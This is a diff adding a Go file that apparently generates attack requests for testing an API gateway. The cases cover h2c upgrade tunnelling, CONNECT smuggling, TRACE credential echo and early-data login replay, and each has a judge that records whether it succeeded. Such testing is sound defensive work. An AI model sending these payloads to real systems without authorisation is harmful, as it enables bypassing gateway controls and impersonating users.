@@ -1,0 +1,111 @@
+package attack
+
+import "slices"
+
+// handshake is an honest WebSocket handshake.
+func handshake(path string, header ...Field) Request {
+	return get(path, append([]Field{
+		{"Connection", "Upgrade"}, {"Upgrade", "websocket"},
+		{"Sec-WebSocket-Version", "13"}, {"Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="},
+	}, header...)...)
+}
+
+// h2cSettings is the HTTP2-Settings of the published attack.
+var h2cSettings = Field{"HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"}
+
+// upgradeAttacks: an upstream that answers 101 opens a tunnel that no rule of
+// the gateway sees into; over h2c, the attacker sends "x-wx-openid: victim" in it.
+func upgradeAttacks(t *Target) []Attack {
+	var out []Attack
+	add := func(id string, request Request) {
+		out = append(out, Attack{
+			ID: "upgrade/" + id, Mechanism: upgradeMechanism, Protocols: h1Only,
+			Needs: []Control{admitted}, Request: request, Judge: tunnelled,
+		})
+	}
+	upgrade := func(id string, upgrades []string, more ...Field) {
+		header := []Field{{"Connection", "Upgrade"}}
+		for _, u := range upgrades {
+			header = append(header, Field{"Upgrade", u})
+		}
+		add(id, get(t.Guarded+"upgrade", append(header, more...)...))
+	}
+	upgrade("h2c", []string{"h2c"}, h2cSettings)
+	upgrade("h2c-upper", []string{"H2C"}, h2cSettings)
+	upgrade("h2c-without-settings", []string{"h2c"})
+	upgrade("http2", []string{"HTTP/2.0"})
+	upgrade("tls", []string{"TLS/1.2"})
+	upgrade("spdy", []string{"SPDY/3.1"})
+	upgrade("tcp", []string{"tcp"})
+	upgrade("connect-udp", []string{"connect-udp"})
+	upgrade("anything", []string{"anything"})
+	upgrade("two-in-a-list", []string{"websocket, h2c"}, h2cSettings)
+	upgrade("two-in-a-list-reversed", []string{"h2c, websocket"}, h2cSettings)
+	upgrade("two-headers", []string{"websocket", "h2c"}, h2cSettings)
+	upgrade("two-headers-reversed", []string{"h2c", "websocket"}, h2cSettings)
+	upgrade("with-a-version", []string{"websocket/13"})
+	upgrade("websocket-with-settings", []string{"websocket"}, h2cSettings,
+		Field{"Sec-WebSocket-Version", "13"}, Field{"Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="})
+	upgrade("empty-then-h2c", []string{"", "h2c"}, h2cSettings)
+	add("settings-in-connection", get(t.Guarded+"upgrade", Field{"Connection", "Upgrade, HTTP2-Settings"}, Field{"Upgrade", "h2c"}, h2cSettings))
+	add("without-connection", get(t.Guarded+"upgrade", Field{"Upgrade", "h2c"}, h2cSettings))
+	add("post", Request{Method: "POST", Path: t.Guarded + "upgrade", Header: []Field{bearer("{token}"), {"Connection", "Upgrade"}, {"Upgrade", "h2c"}, h2cSettings}, Body: "x"})
+	public1 := anonymous(t.Public+"upgrade", Field{"Connection", "Upgrade"}, Field{"Upgrade", "h2c"}, h2cSettings)
+	out = append(out, Attack{
+		ID: "upgrade/h2c-on-public", Mechanism: upgradeMechanism, Protocols: h1Only, Needs: []Control{public}, Request: public1, Judge: tunnelled,
+	})
+	return out
+}
+
+// tunnelAttacks: CONNECT asks for a tunnel outright; TRACE sends the credentials
+// back to whoever can read the answer.
+func tunnelAttacks(t *Target) []Attack {
+	var out []Attack
+	add := func(id string, protocols []Protocol, request Request, judge func(*Evidence) string, needs ...Control) {
+		out = append(out, Attack{
+			ID: "upgrade/" + id, Mechanism: upgradeMechanism, Protocols: protocols,
+			Needs: append(needs, admitted), Request: request, Judge: judge,
+		})
+	}
+	token := []Field{bearer("{token}")}
+	add("trace", nil, Request{Method: "TRACE", Path: t.Guarded + "trace", Header: token}, servedOrOK)
+	add("trace-public", nil, Request{Method: "TRACE", Path: t.Public + "trace"}, servedOrOK, public)
+	inner := "GET " + t.Guarded + "{smuggled} HTTP/1.1\r\nHost: {upstream}\r\n\r\n"
+	add("connect", multiplexed, Request{Method: "CONNECT", Path: "{upstream}", Header: token, Body: inner}, served)
+	add("connect-raw", h1Only, Request{Raw: "CONNECT {upstream} HTTP/1.1\r\nHost: {upstream}\r\nX-Attack: {marker}\r\nAuthorization: Bearer {token}\r\n\r\n" + inner}, served)
+	add("connect-anonymous", h1Only, Request{Raw: "CONNECT {upstream} HTTP/1.1\r\nHost: {host}\r\nX-Attack: {marker}\r\n\r\n" + inner}, served, guarded)
+	add("connect-path", h1Only, Request{Method: "CONNECT", Path: t.Guarded + "connect", Header: token}, served)
+	add("extended-connect-udp", multiplexed, Request{Method: "CONNECT", Path: t.Guarded + "connect", Protocol: "connect-udp", Header: token}, served)
+	add("extended-connect-h2c", multiplexed, Request{Method: "CONNECT", Path: t.Guarded + "connect", Protocol: "h2c", Header: token}, served)
+	add("extended-connect-anonymous", multiplexed, Request{Method: "CONNECT", Path: t.Guarded + "connect", Protocol: "websocket"}, served, guarded)
+	add("extended-connect-spoofed", multiplexed, Request{Method: "CONNECT", Path: t.Guarded + "connect", Protocol: "websocket", Header: slices.Concat(token, everySpelling(t))}, impersonated)
+	add("frame-upgrade", multiplexed, get(t.Guarded+"upgrade", Field{"upgrade", "h2c"}, Field{"http2-settings", h2cSettings.Value}), tunnelled)
+	add("frame-settings", multiplexed, get(t.Guarded+"upgrade", Field{"http2-settings", h2cSettings.Value}), tunnelled)
+	return out
+}
+
+// earlyAttacks: whoever records a client's first packets can send them again.
+func earlyAttacks(t *Target) []Attack {
+	login := *loginRequest(t, "{code}")
+	marked, recorded := login, login
+	marked.Header = append([]Field{{"Early-Data", "1"}}, login.Header...)
+	recorded.Early = true
+	return []Attack{
+		{
+			// A proxy in front says that the request came to it in early data.
+			ID: "early/login-marked", Mechanism: earlyMechanism, Needs: []Control{canLogin}, Request: marked, Judge: loggedIn,
+		},
+		{
+			// The packets themselves: a login that nobody finished the handshake for.
+			// Whoever wrote it finds out that its code is spent.
+			ID: "early/login-recorded", Mechanism: earlyMechanism, Protocols: []Protocol{H3}, Needs: []Control{canLogin, earlyData},
+			Before: []Request{{Path: t.Public + "ticket"}}, Request: recorded, After: &login,
+			Judge: func(e *Evidence) string {
+				if loggedIn(&Evidence{Answer: e.After}) == "" {
+					return "the login was carried out: its code is spent"
+				}
+				return ""
+			},
+		},
+	}
+}
